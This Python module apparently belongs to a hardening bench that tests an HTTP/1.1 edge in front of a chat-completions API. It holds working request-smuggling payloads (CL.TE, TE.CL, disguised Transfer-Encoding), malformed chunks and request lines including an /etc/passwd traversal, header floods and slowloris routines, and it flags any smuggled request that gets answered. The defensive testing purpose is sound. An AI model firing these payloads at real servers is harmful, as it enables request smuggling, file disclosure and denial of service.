"""Attacks over HTTP/1.1: requests that two readers would understand differently, and heads and
bodies that are too many, too long, too slow or never read."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Sequence
from typing import Final

from bench.hostile.http.sending import Answer, Ration, crowd, key_of, missed, note
from bench.hostile.http.wire1 import Http1, exchange, exchanges, head, http1, post
from bench.hostile.target import Findings, Target

_SMUGGLED: Final = b"GET /hidden HTTP/1.1\r\nHost: edge\r\nX-Request-Id: smuggled\r\n\r\n"
"""An answer to it, though it is a refusal, shows that it was taken for a request."""
_MARKER: Final = b"GET /marker HTTP/1.1\r\nHost: edge\r\nX-Request-Id: marker\r\n\r\n"
_CHUNKED: Final = b"Transfer-Encoding: chunked"
_END: Final = b"0\r\n\r\n"
_HELD_S: Final = 4.0
"""Longer than the edge of this bench waits for a head or a body (SETTINGS)."""
_BYTES: Final = 20
"""Sent one by one in that time."""
_NEVER_READ: Final = {"stream": True, "logprobs": True, "top_logprobs": 20}


def _length(size: int | bytes) -> bytes:
    return b"Content-Length: " + (size if isinstance(size, bytes) else b"%d" % size)


def _hidden(method: str, *fields: bytes, body: bytes) -> bytes:
    """A request with this framing, whose body has another request in it."""
    line = f"{method} /tokenize HTTP/1.1"
    return head(line, b"Content-Type: application/json", *fields) + body


def contradicting() -> list[bytes]:
    """Both kinds of framing at once (CL.TE, TE.CL), and lengths that are several or none. A request
    is hidden where one of the readings ends the body."""
    behind = _END + _SMUGGLED
    inside = b"%x\r\n%b\r\n" % (len(_SMUGGLED), _SMUGGLED) + _END
    size = len(_SMUGGLED)
    cases = [
        _hidden("POST", _length(len(behind)), _CHUNKED, body=behind),
        _hidden("POST", _CHUNKED, _length(len(behind)), body=behind),
        _hidden("POST", _length(4), _CHUNKED, body=inside),
        _hidden("POST", _CHUNKED, _length(4), body=inside),
        _hidden("GET", _length(len(behind)), _CHUNKED, body=behind),
        _hidden("POST", _length(0), _length(size), body=_SMUGGLED),
        _hidden("POST", _length(size), _length(0), body=_SMUGGLED),
        _hidden("GET", _length(size), body=_SMUGGLED),
        _hidden("PUT", _length(size), body=_SMUGGLED),
        _hidden("DELETE", _length(size), body=_SMUGGLED),
        _hidden("OPTIONS", _length(size), body=_SMUGGLED),
    ]
    odd = (b"0, %d", b"+0", b"-0", b"-1", b"0x0", b"0 0", b"", b"0;", b"0.0", b"1e1", b"\xb2")
    cases += [
        _hidden("POST", _length(text.replace(b"%d", b"%d" % size)), body=_SMUGGLED) for text in odd
    ]
    cases += [_hidden("POST", _length(b"9" * digits), body=_SMUGGLED) for digits in (20, 300, 5000)]
    return cases


def disguised() -> list[bytes]:
    """Transfer codings that one reader knows and another does not (TE.TE)."""
    names = (
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked",
        b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: identity",
        b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: gzip, chunked",
        b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: CHUNKED",
        b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked",
        b" Transfer-Encoding: chunked", b"X: y\r\n Transfer-Encoding: chunked",
        b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: \x0bchunked",
        b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: chunked;q=1",
        b"Transfer\x00-Encoding: chunked", b"Transfer-Encoding: chunked\x00",
        b"Transfer-Encoding: chun\xffked", b"Transfer_Encoding: chunked", b"Transfer-Encoding:",
        b"\xc2\xa0Transfer-Encoding: chunked", b"TE: chunked", b"Transfer-Encoding: ,chunked",
    )  # fmt: skip
    body = _END + _SMUGGLED
    made = [_hidden("POST", _length(len(body)), name, body=body) for name in names]
    return [*made, *(it.replace(b"HTTP/1.1\r\n", b"HTTP/1.0\r\n", 1) for it in made)]


def damaged_bodies() -> list[bytes]:
    """Chunks that are not what RFC 9112, section 7.1, says; nothing behind them may be read."""
    sizes = (
        b"0x2", b"+2", b"-2", b" 2", b"2 2", b"", b"g", b"2,", b"2\x00", b"\xef\xbc\x92", b"2_0",
        b"f" * 16, b"f" * 21, b"7" + b"f" * 15, b"2;x=\n", b"2;" + b"x" * 70_000, b"0" * 30 + b"2",
    )  # fmt: skip
    cases = [size + b"\r\nhi\r\n" + _END for size in sizes]
    cases += [
        b"2\nhi\n0\n\n",
        b"2\r\nhi\n0\r\n\r\n",
        b"2\r\nhiho\r\n" + _END,
        b"2\r\nhi" + _END,
        b"2\r\nhi\r\n0\r\nContent-Length: 3\r\n x\r\n y: z\x00\r\n\r\n",
        b"2\r\nhi\r\n0\r\n" + b"x: y\r\n" * 5000 + b"\r\n",
        b"2\r\nhi\r\n0\r\nx: " + b"y" * 100_000 + b"\r\n\r\n",
        b"1\r\nx\r\n" * 20_000 + _END,
        b"1;" + b"e" * 1000 + b"\r\nx\r\n",
        b"\r\n" * 500 + _END,
    ]
    return [_hidden("POST", _CHUNKED, body=case) for case in cases]


def damaged_starts() -> list[bytes]:
    """Request lines and fields that are none."""
    lines = (
        b"GET /openapi.json", b"GET /openapi.json HTTP/9.9", b"GET /openapi.json HTTP/2.0",
        b"GET  /openapi.json HTTP/1.1", b"GET\t/openapi.json HTTP/1.1", b"GET / HTTP/1.1 x",
        b"get /openapi.json HTTP/1.1", b"G\x00T / HTTP/1.1", b"GET /\x00 HTTP/1.1",
        b"GET /\xff\xfe HTTP/1.1", b"GET http://other/openapi.json HTTP/1.1", b"GET * HTTP/1.1",
        b"OPTIONS * HTTP/1.1", b"CONNECT edge:443 HTTP/1.1", b"TRACE / HTTP/1.1",
        b"PRI * HTTP/2.0", b"GET //openapi.json HTTP/1.1", b"GET /%00%0d%0a HTTP/1.1",
        b"GET /../../etc/passwd HTTP/1.1", b"GET /#x HTTP/1.1", b"GET /openapi.json HTTP/1.1\x0b",
        b"M" * 5000 + b" / HTTP/1.1", b"GET " + b"/x" * 9000 + b" HTTP/1.1", b"\x16\x03\x01\x02",
        b"SSH-2.0-x", b"", b"\x00" * 100, b"GET /%zz?%=%&&=;; HTTP/1.1",
    )  # fmt: skip
    fields = (
        b"", b"Host: a", b"Host: edge\r\nHost: other", b": x", b"x", b"x y: z", b"x\x00: y",
        b"x: y\x00", b"x: y\r\n\tz: w", b"x: \x7f\x01", b"Content-Length : 3", b"x:y\rz: w",
        b"\xffx: y", b"x: " + b"\xff" * 100, b"Expect: 200-maybe", b"Upgrade: h2c\r\nConnection: "
        b"Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__", b"Connection: upgrade\r\n"
        b"Upgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13",
        b"Host:", b"Host: a b", b"Host: \xff", b"Connection: close, close, x" + b",x" * 500,
        b"Range: bytes=0-,0-,0-", b"Forwarded: for=127.0.0.1", b"X-Forwarded-For: 127.0.0.1",
    )  # fmt: skip
    plain, starts = b"GET /openapi.json HTTP/1.1\r\n", [line + b"\r\nHost: a" for line in lines]
    starts += [plain + field for field in fields]
    made = [start + b"\r\n\r\n" for start in starts]
    return [*made, *(start.replace(b"\r\n", b"\n") for start in made)]


def floods() -> list[bytes]:
    """Heads that are long in every way."""
    return [
        head("GET /openapi.json HTTP/1.1", *(b"x%d: y" % number for number in range(5000))),
        head("GET /openapi.json HTTP/1.1", *([b"x: y"] * 20_000)),
        head("GET /openapi.json HTTP/1.1", b"x: " + b"y" * 1_000_000),
        head("GET /openapi.json HTTP/1.1", b"y" * 500_000 + b": x"),
        head("GET /openapi.json HTTP/1.1", *([b"Cookie: " + b"z" * 4000] * 100)),
        head(f"GET /{'x' * 1_000_000} HTTP/1.1"),
        b"GET /" + b"x" * 500_000,
        b"\r\n" * 100_000,
        head("GET /openapi.json HTTP/1.1", b"x: y\r\n " + b"z\r\n " * 20_000 + b"w"),
        head("GET /openapi.json HTTP/1.1", *([b"Authorization: Bearer or_" + b"a" * 300] * 40)),
        head("GET /openapi.json HTTP/1.1", *([b"x:"] * 1500)),
    ]


async def contradicting_lengths(target: Target, ration: Ration, findings: Findings) -> None:
    """Content-Length beside Transfer-Encoding in either order (CL.TE, TE.CL), several lengths, and
    lengths that are no numbers, with a request hidden behind one of the readings."""
    await _smuggle(target, ration, findings, contradicting())


async def disguised_encodings(target: Target, ration: Ration, findings: Findings) -> None:
    """Transfer-Encoding in every disguise (TE.TE) beside a Content-Length, with a request hidden
    behind one of the readings."""
    await _smuggle(target, ration, findings, disguised())


async def damaged_chunks(target: Target, ration: Ration, findings: Findings) -> None:
    """Chunk sizes, extensions, line ends and trailers that are damaged, oversized or too many."""
    await _cycled(target, ration, findings, damaged_bodies())


async def damaged_heads(target: Target, ration: Ration, findings: Findings) -> None:
    """Request lines and header fields with what they cannot have, line ends that are bare, folded
    lines, other protocols' beginnings."""
    await _cycled(target, ration, findings, damaged_starts())


async def head_floods(target: Target, ration: Ration, findings: Findings) -> None:
    """Heads of thousands of fields, of a megabyte, of lines without an end."""
    await _cycled(target, ration, findings, floods())


async def slow_heads(target: Target, ration: Ration, findings: Findings) -> None:
    """Slowloris: a hundred connections at a time send their heads byte by byte."""
    await _slowly(target, ration, findings, head("GET /openapi.json HTTP/1.1", b"x: " + b"y" * 99))


async def slow_bodies(target: Target, ration: Ration, findings: Findings) -> None:
    """A hundred connections at a time send the body of a chat that a key allows byte by byte."""
    key = b"Authorization: Bearer " + key_of(target).encode()
    await _slowly(target, ration, findings, post("/v1/chat/completions", b" " * 1000, key), 900)


async def pipelined_requests(target: Target, ration: Ration, findings: Findings) -> None:
    """Fifty requests at once on a connection, none of whose answers is waited for."""
    key = b"Authorization: Bearer " + key_of(target).encode()
    chat = post("/v1/chat/completions", _chat(max_tokens=1), key)
    while numbers := ration.take_up_to(50):
        listed = head("GET /v1/models HTTP/1.1", key) * (len(numbers) - 2)
        last = head("GET /v1/models HTTP/1.1", key, b"X-Request-Id: last")
        data = (chat if len(numbers) > 1 else b"") + listed + last
        await exchanges(target, data, findings, last_id="last", timeout_s=10.0)


async def vanishing_requests(target: Target, ration: Ration, findings: Findings) -> None:
    """Chats that a key allows, whose clients are gone soon after they began."""
    key = b"Authorization: Bearer " + key_of(target).encode()

    async def send(number: int) -> None:
        body = _chat(max_tokens=400, stream=bool(number % 2))
        with contextlib.suppress(OSError):
            async with http1(target) as connection:
                await connection.send(post("/v1/chat/completions", body, key))
                await asyncio.sleep(0.01 * (number % 10))
                findings.count("left")

    await crowd(ration, send, 4)


async def unread_replies(target: Target, ration: Ration, findings: Findings) -> None:
    """Long replies with log probabilities that a key allows, and that nobody reads."""
    key = b"Authorization: Bearer " + key_of(target).encode()

    async def send(_: int) -> None:
        body = _chat(max_tokens=300, **_NEVER_READ)
        with contextlib.suppress(OSError):
            async with http1(target) as connection:
                await connection.send(post("/v1/chat/completions", body, key))
                await asyncio.sleep(1.0)
                findings.count("left unread")

    await crowd(ration, send, 4)


def _chat(**options: object) -> bytes:
    asked = {"messages": [{"role": "user", "content": "Count to a thousand."}], "temperature": 0}
    return json.dumps({**asked, **options}).encode()


async def _smuggle(
    target: Target, ration: Ration, findings: Findings, cases: Sequence[bytes]
) -> None:
    key = key_of(target)

    async def send(number: int) -> None:
        data = _turn(cases, number, key) + _MARKER
        answers = await exchanges(target, data, findings, last_id="marker", timeout_s=1.0)
        if _was_smuggled(answers):
            missed(findings, f"a hidden request was answered: {_begin_of(data)}")

    await crowd(ration, send, 16)


def _turn(cases: Sequence[bytes], number: int, key: str) -> bytes:
    """Each case in turn, every other time with a valid key: bodies are read then."""
    case, has_key = cases[number % len(cases)], (number + number // len(cases)) % 2
    line, end, rest = case.partition(b"\r\n")
    if not (has_key and end):
        return case
    return b"%b\r\nAuthorization: Bearer %b\r\n%b" % (line, key.encode(), rest)


def _was_smuggled(answers: Sequence[Answer]) -> bool:
    return any(answer.request_id == "smuggled" for answer in answers)


def _begin_of(data: bytes) -> str:
    return repr(data.partition(b"\r\n\r\n")[0])[:300]


async def _cycled(
    target: Target, ration: Ration, findings: Findings, cases: Sequence[bytes]
) -> None:
    key = key_of(target)

    async def send(number: int) -> None:
        await exchange(target, _turn(cases, number, key), findings)

    await crowd(ration, send, 16)


async def _slowly(
    target: Target, ration: Ration, findings: Findings, data: bytes, held_back: int = 100
) -> None:
    """Send all but the last `held_back` bytes at once, and then one after the other."""

    async def one() -> None:
        try:
            async with http1(target) as connection:
                await connection.send(data[:-held_back])
                waiting = asyncio.create_task(_until_closed(connection, findings))
                try:
                    for at in range(_BYTES):
                        if waiting.done():
                            break
                        await connection.send(data[at - held_back :][:1])
                        await asyncio.sleep(_HELD_S / _BYTES)
                    findings.count("ended by the edge" if waiting.done() else "outlasted it")
                finally:
                    waiting.cancel()
        except OSError:
            findings.count("ended by the edge")

    while numbers := ration.take_up_to(100):
        await asyncio.gather(*(one() for _ in numbers))


async def _until_closed(connection: Http1, findings: Findings) -> None:
    with contextlib.suppress(OSError, EOFError, TimeoutError, ValueError):
        note(findings, await connection.answer(_HELD_S * 3))
        await connection.next_byte()
